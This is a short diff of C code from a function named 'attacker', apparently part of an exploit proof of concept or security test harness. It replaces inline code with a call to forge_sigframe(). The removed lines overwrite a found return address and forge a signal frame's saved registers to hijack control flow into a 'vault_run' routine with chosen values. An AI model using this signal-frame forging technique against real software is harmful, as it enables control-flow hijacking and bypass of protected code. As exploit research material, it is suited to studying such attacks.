@@ -98,17 +98,7 @@ static void *attacker(void *) {
   volatile uintptr_t *found = find_saved_sp();
   printf("saved stack pointer %s\n", found ? "found" : "not found");
   if (found && frame >= 0 && back && armed) {
-    /* as forged-sigframe.h: the callback's return address, the ucontext
-     * above it resuming vault_run's catch with rbp the program's request */
-    volatile uintptr_t *ra = found - 4;
-    volatile char *uc = (volatile char *)(ra + 1);
-    uintptr_t sp = *found + 64 + 8 + frame + 8;
-#define REG(r) (*(volatile uintptr_t *)(uc + offsetof(ucontext_t, uc_mcontext.gregs[r])))
-    REG(REG_RIP) = back - 1;
-    REG(REG_RSP) = sp;
-    REG(REG_RBX) = key;
-    REG(REG_RBP) = (uintptr_t)request.words;
-    *ra = (uintptr_t)rd + 7;
+    forge_sigframe(found, frame, back, key, (uintptr_t)rd + 7);
   }
   if (write(ack[1], "k", 1) != 1)
     puts("no acknowledgement");
